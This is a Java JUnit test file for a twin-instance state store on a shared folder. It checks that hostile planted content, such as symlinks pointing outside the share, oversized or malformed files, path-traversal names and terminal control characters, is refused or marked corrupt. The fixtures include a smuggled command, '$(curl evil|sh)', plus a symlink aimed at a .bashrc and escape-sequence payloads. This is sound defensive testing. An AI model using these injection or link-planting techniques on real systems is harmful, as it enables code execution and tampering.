package dev.openclaw.twin.state;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.openclaw.twin.config.TwinsConfig;
import dev.openclaw.twin.coordination.Decision;
import dev.openclaw.twin.coordination.FlockView;
import dev.openclaw.twin.coordination.Message;
import dev.openclaw.twin.coordination.ResponseRules;
import dev.openclaw.twin.health.FlockSnapshot;
import dev.openclaw.twin.health.Liveness;
import dev.openclaw.twin.health.LivenessTracker;
import dev.openclaw.twin.testing.TestConfigs;
import java.io.RandomAccessFile;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.FileTime;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.concurrent.atomic.AtomicLong;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * What someone who can write to the share (another computer, a compromised device, a half-synced
 * cloud folder) may plant there, against a real store directory with real links: nothing outside
 * the share is read, written or deleted, and the store keeps working.
 */
class HostileShareTest {

    private static final Instant T0 = Instant.parse("2026-03-01T10:00:00Z");
    private static final FileTime THREE_DAYS_AGO = FileTime.from(Instant.now().minus(Duration.ofDays(3)));

    @TempDir
    Path dir;

    private Path share;
    /** Outside the share: must never change. */
    private Path outside;

    private FileStateStore store;

    @BeforeEach
    void createShare() throws Exception {
        share = Files.createDirectory(dir.resolve("share"));
        outside = Files.createDirectory(dir.resolve("outside"));
        store = new FileStateStore(share, "twin-primary.json");
    }

    private static Heartbeat heartbeat(String twin, long seq) {
        return new Heartbeat(twin, seq, 42, "host", "1.0", T0, T0.plusSeconds(seq), Heartbeat.RUNNING, null);
    }

    private static String hash(String key) {
        return dev.openclaw.twin.files.Sha256.hex(key);
    }

    // ---- claims -------------------------------------------------------------------------------

    @Test
    void pruningNeverDeletesThroughALinkedShard() throws Exception {
        // A 3-day-old file in /some/dir, named like a claim, reached through twin/claims/zz and
        // through a link that looks like a real shard.
        String lookalike = hash("victim");
        Path victim = Files.writeString(outside.resolve(lookalike + ".json"), "precious");
        Path victim2 = Files.writeString(outside.resolve("notes.json"), "precious too");
        Files.setLastModifiedTime(victim, THREE_DAYS_AGO);
        Files.setLastModifiedTime(victim2, THREE_DAYS_AGO);
        store.createClaim(new Claim("old", "tars", "primary", T0, 1));
        Path claims = share.resolve("twin/claims");
        Files.createSymbolicLink(claims.resolve("zz"), outside);
        Files.createSymbolicLink(claims.resolve(lookalike.substring(0, 2)), outside);
        // ... and a link in a real shard to a file outside.
        Path shard = claims.resolve(hash("old").substring(0, 2));
        Files.createSymbolicLink(shard.resolve(hash("linked") + ".json"), victim);
        for (Path file : Files.newDirectoryStream(shard)) {
            Files.setLastModifiedTime(file, THREE_DAYS_AGO);
        }

        int pruned = store.pruneOlderThan(Duration.ofDays(1));

        assertThat(victim).hasContent("precious");
        assertThat(victim2).hasContent("precious too");
        assertThat(pruned).isEqualTo(1);
        assertThat(store.readClaim("old")).isEqualTo(new ClaimState.Unclaimed());
    }

    @Test
    void unknownFilesNeverStopPruningAndAreNotReported() throws Exception {
        store.createClaim(new Claim("old", "tars", "primary", T0, 1));
        Instant now = Instant.now(); // no clock skew to report
        store.writeHeartbeat(new Heartbeat("tars", 1, 42, "host", "1.0", now, now, Heartbeat.RUNNING, null));
        Path claims = share.resolve("twin/claims");
        Path shard = claims.resolve(hash("old").substring(0, 2));
        Path heartbeats = share.resolve("twin/heartbeats");
        // What Finder, Windows and editors leave on an SMB share, before and after the real entries.
        for (Path where : List.of(claims, shard, heartbeats)) {
            Files.writeString(where.resolve(".DS_Store"), "\0\0\0\1Bud1");
            Files.writeString(where.resolve("._x"), "\0\5\26\7");
            Files.writeString(where.resolve("._tars.json"), "\0\5\26\7");
            Files.writeString(where.resolve("Thumbs.db"), "\0");
            Files.writeString(where.resolve(".tars.json.swp"), "b0VIM");
            Files.writeString(where.resolve("tars.json~"), "{");
        }
        Files.createDirectory(claims.resolve("00")); // an empty shard sorts first
        try (Stream<Path> all = Files.walk(claims)) {
            for (Path file : all.toList()) {
                Files.setLastModifiedTime(file, THREE_DAYS_AGO);
            }
        }

        assertThat(store.pruneOlderThan(Duration.ofDays(1))).isEqualTo(1);
        assertThat(store.readClaim("old")).isEqualTo(new ClaimState.Unclaimed());
        assertThat(shard.resolve(".DS_Store")).exists(); // not ours: left alone

        assertThat(store.readHeartbeats().keySet()).containsExactly("tars");
        FlockSnapshot snapshot = FlockSnapshot.read(store, List.of("tars"));
        assertThat(snapshot.problems()).isEmpty();
        assertThat(snapshot.heartbeats()).containsOnlyKeys("tars");
    }

    // ---- events -------------------------------------------------------------------------------

    @Test
    void theEventTrailNeverAppendsThroughALink() throws Exception {
        Path rc = Files.writeString(outside.resolve(".bashrc"), "export PATH=/usr/bin\n");
        Path trail = Files.createDirectories(share.resolve("twin/events/tars"));
        Files.createSymbolicLink(trail.resolve("2026-03-01.jsonl"), rc);

        assertThatThrownBy(() -> store.appendEvent("tars", T0, "override", Map.of("by", "$(curl evil|sh)")))
                .isInstanceOf(StoreUnavailableException.class)
                .hasMessageContaining("symbolic link");
        assertThat(rc).hasContent("export PATH=/usr/bin\n");

        // A linked directory on the way is refused too.
        Files.createSymbolicLink(share.resolve("twin/events/case"), outside);
        assertThatThrownBy(() -> store.appendEvent("case", T0, "peer-state", Map.of()))
                .isInstanceOf(StoreUnavailableException.class)
                .hasMessageContaining("symbolic link");
        try (Stream<Path> files = Files.list(outside)) {
            assertThat(files.map(p -> p.getFileName().toString())).containsExactly(".bashrc");
        }
    }

    // ---- heartbeats, overrides ----------------------------------------------------------------

    @Test
    void aLinkedHeartbeatFileIsCorruptNotFollowed() throws Exception {
        store.writeHeartbeat(heartbeat("tars", 1));
        Path elsewhere = Files.writeString(outside.resolve("case.json"), """
                {"twin":"case","seq":7,"pid":1,"state":"running"}""");
        Files.createSymbolicLink(share.resolve("twin/heartbeats/case.json"), elsewhere);

        Map<String, StoreRead<Heartbeat>> read = store.readHeartbeats();
        assertThat(read.get("tars")).isInstanceOf(StoreRead.Present.class);
        assertThat(read.get("case"))
                .isEqualTo(new StoreRead.Corrupt<>("twin/heartbeats/case.json: is a symbolic link (not followed)"));
        assertThat(store.heartbeatAges()).as("a link is no heartbeat").doesNotContainKey("case");
    }

    @Test
    void aLinkedHeartbeatDirectoryIsNeitherReadNorWritten() throws Exception {
        Files.createDirectories(share.resolve("twin"));
        Files.writeString(outside.resolve("case.json"), """
                {"twin":"case","seq":7,"pid":1,"state":"running"}""");
        Files.createSymbolicLink(share.resolve("twin/heartbeats"), outside);

        assertThatThrownBy(store::readHeartbeats)
                .isInstanceOf(StoreUnavailableException.class)
                .hasMessageContaining("twin/heartbeats is a symbolic link (not followed)");
        assertThatThrownBy(() -> store.writeHeartbeat(heartbeat("tars", 1)))
                .isInstanceOf(StoreUnavailableException.class);
        assertThat(outside.resolve("tars.json")).doesNotExist();
        assertThat(FlockSnapshot.read(store, List.of("tars", "case")).heartbeats())
                .isEmpty();
    }

    @Test
    void aLinkedOverridesFileIsCorruptNotFollowed() throws Exception {
        Files.createDirectories(share.resolve("twin"));
        Path elsewhere = Files.writeString(outside.resolve("o.json"), """
                {"both":true,"by":"attacker"}""");
        Files.createSymbolicLink(share.resolve("twin/overrides.json"), elsewhere);
        assertThat(store.readOverrides())
                .isEqualTo(new StoreRead.Corrupt<>("twin/overrides.json: is a symbolic link (not followed)"));
        Files.createSymbolicLink(share.resolve("twin-primary.json"), elsewhere);
        assertThat(store.readPrimaryState()).isInstanceOf(StoreRead.Corrupt.class);
    }

    @Test
    void anOversizedHeartbeatIsTooLargeAndNeverLoaded() throws Exception {
        store.writeHeartbeat(heartbeat("tars", 1));
        Path heartbeats = share.resolve("twin/heartbeats");
        // 8 MB of valid JSON (a long host name), as in the report.
        String host = "x".repeat(8 * 1024 * 1024);
        Files.writeString(heartbeats.resolve("case.json"), """
                {"twin":"case","seq":7,"pid":1,"state":"running","host":"%s"}""".formatted(host));
        // 3 GB (sparse: no disk used): reading it whole would need an array Java cannot make.
        try (RandomAccessFile huge =
                new RandomAccessFile(heartbeats.resolve("kipp.json").toFile(), "rw")) {
            huge.setLength(3L * 1024 * 1024 * 1024);
        }

        Map<String, StoreRead<Heartbeat>> read = store.readHeartbeats();
        assertThat(read.get("tars")).isInstanceOf(StoreRead.Present.class);
        assertThat(read.get("case"))
                .isEqualTo(new StoreRead.Corrupt<>("twin/heartbeats/case.json: too large ("
                        + Files.size(heartbeats.resolve("case.json")) + " bytes, limit 16384)"));
        assertThat(read.get("kipp"))
                .isEqualTo(new StoreRead.Corrupt<>(
                        "twin/heartbeats/kipp.json: too large (3221225472 bytes, limit 16384)"));
    }

    @Test
    void aDirectoryWhereAFileBelongsIsCorrupt() throws Exception {
        Files.createDirectories(share.resolve("twin/heartbeats/case.json"));
        Files.createDirectories(share.resolve("twin/overrides.json"));
        assertThat(store.readHeartbeats().get("case"))
                .isEqualTo(new StoreRead.Corrupt<>("twin/heartbeats/case.json: is a directory, not a file"));
        assertThat(store.readOverrides()).isInstanceOf(StoreRead.Corrupt.class);
    }

    @Test
    void wrongFieldsMakeAFileCorruptWithAPreciseProblem() throws Exception {
        Path heartbeats = Files.createDirectories(share.resolve("twin/heartbeats"));
        Map<String, String> cases = Map.of(
                "a", "{\"twin\":\"a\",\"seq\":7,\"pid\":1}",
                "b", "{\"twin\":\"b\",\"seq\":\"7\",\"pid\":1,\"state\":\"running\"}",
                "c", "{\"twin\":\"c\",\"seq\":7,\"pid\":1,\"state\":\"running\",\"writtenAt\":12}",
                "d", "{\"twin\":\"d\",\"seq\":7,\"pid\":1,\"state\":\"running\",\"gateway\":{\"ready\":\"yes\"}}",
                "e", "[1,2,3]",
                "f", "{\"twin\":\"../../etc\",\"seq\":7,\"pid\":1,\"state\":\"running\"}");
        for (Map.Entry<String, String> c : cases.entrySet()) {
            Files.writeString(heartbeats.resolve(c.getKey() + ".json"), c.getValue());
        }
        Map<String, StoreRead<Heartbeat>> read = store.readHeartbeats();
        assertThat(read.get("a"))
                .isEqualTo(new StoreRead.Corrupt<>("twin/heartbeats/a.json: field 'state' is missing"));
        assertThat(read.get("b"))
                .isEqualTo(new StoreRead.Corrupt<>(
                        "twin/heartbeats/b.json: field 'seq' must be a whole number, not text"));
        assertThat(read.get("c"))
                .isEqualTo(new StoreRead.Corrupt<>(
                        "twin/heartbeats/c.json: field 'writtenAt' must be a time (ISO-8601 text), not a number"));
        assertThat(read.get("d"))
                .isEqualTo(new StoreRead.Corrupt<>(
                        "twin/heartbeats/d.json: field 'gateway.ready' must be true or false, not text"));
        assertThat(read.get("e")).isEqualTo(new StoreRead.Corrupt<>("twin/heartbeats/e.json: not a JSON object"));
        assertThat(read.get("f"))
                .isEqualTo(new StoreRead.Corrupt<>(
                        "twin/heartbeats/f.json: field 'twin' is not a twin name: '../../etc'"));

        Files.createDirectories(share.resolve("twin"));
        Files.writeString(share.resolve("twin/overrides.json"), "{\"both\":\"yes\"}");
        assertThat(store.readOverrides())
                .isEqualTo(
                        new StoreRead.Corrupt<>("twin/overrides.json: field 'both' must be true or false, not text"));
        Files.writeString(share.resolve("twin-primary.json"), "{\"primary\":\"tars\"}");
        assertThat(store.readPrimaryState())
                .isEqualTo(new StoreRead.Corrupt<>("twin-primary.json: field 'date' is missing"));
    }

    @Test
    void aClaimFileHoldingAnotherKeyIsUnreadable() throws Exception {
        store.createClaim(new Claim("other", "case", "primary", T0, 1));
        String other = "twin/claims/" + hash("other").substring(0, 2) + "/" + hash("other") + ".json";
        Path planted = share.resolve("twin/claims/" + hash("mine").substring(0, 2) + "/" + hash("mine") + ".json");
        Files.createDirectories(planted.getParent());
        Files.copy(share.resolve(other), planted);
        assertThat(store.readClaim("mine")).isInstanceOf(ClaimState.Unreadable.class);
    }

    // ---- the flock's view -----------------------------------------------------------------------

    /** 2026-03-01 is odd: case is the day's primary, tars its standby. */
    private static final TwinsConfig CONFIG = TestConfigs.parse("""
            twins:
              tars: {hostname: h1}
              case: {hostname: h2}
            coordination: {odd_primary: case, even_primary: tars, timezone: UTC}
            """);

    @Test
    void aHeartbeatWithoutStateIsCorruptAndTheLivePrimaryStillAnswers() throws Exception {
        AtomicLong nanos = new AtomicLong(1_000_000_000L);
        LivenessTracker tracker =
                new LivenessTracker(nanos::get, new Liveness(Duration.ofSeconds(3), Duration.ofSeconds(20)));
        Files.createDirectories(share.resolve("twin/heartbeats"));
        // case died long ago; its file was rewritten without a state.
        Files.writeString(share.resolve("twin/heartbeats/case.json"), """
                {"twin":"case","seq":7,"pid":4242,"host":"case-host","version":"1.0",
                 "startedAt":"2026-03-01T09:00:00Z","writtenAt":"2026-03-01T09:59:00Z"}""");
        FlockSnapshot snapshot = null;
        for (int beat = 1; beat <= 15; beat++) {
            store.writeHeartbeat(heartbeat("tars", beat));
            snapshot = FlockSnapshot.read(store, CONFIG.twinNames());
            snapshot.heartbeats().values().forEach(tracker::observe);
            tracker.observeDirectProbe("tars", true);
            nanos.addAndGet(Duration.ofSeconds(2).toNanos());
        }
        assertThat(snapshot.problems().stream().filter(p -> !p.startsWith("clock skew")))
                .containsExactly("twin/heartbeats/case.json: field 'state' is missing");

        FlockView view = snapshot.view(CONFIG, T0.plusSeconds(30), tracker);
        assertThat(view.roles().primary()).isEqualTo("case");
        assertThat(view.offline()).containsExactly("case");
        Decision decision = new ResponseRules(CONFIG)
                .decide("tars", new Message("discord", "c1", "m1", "u1", "what is the weather?"), view);
        assertThat(decision.respond()).as(decision.toString()).isTrue();
        assertThat(decision.claimant()).contains("tars");
    }

    @Test
    void controlCharactersFromTheShareAreStripped() throws Exception {
        Files.createDirectories(share.resolve("twin/heartbeats"));
        Files.writeString(share.resolve("twin/heartbeats/case.json"), """
                {"twin":"case","seq":7,"pid":1,"state":"running","host":"evil\\u001b]0;pwned\\u0007",
                 "version":"1.0\\u001b[31m\\u202e","gateway":{"ready":false,"detail":"unreachable\\u0007"}}""");
        Heartbeat read = store.readHeartbeats().get("case").present().orElseThrow();
        assertThat(read.host()).isEqualTo("evil]0;pwned");
        assertThat(read.version()).isEqualTo("1.0[31m");
        assertThat(read.gateway().detail()).isEqualTo("unreachable");
        assertThat(new String(Files.readAllBytes(share.resolve("twin/heartbeats/case.json")), StandardCharsets.UTF_8))
                .contains("\\u001b");
    }
}
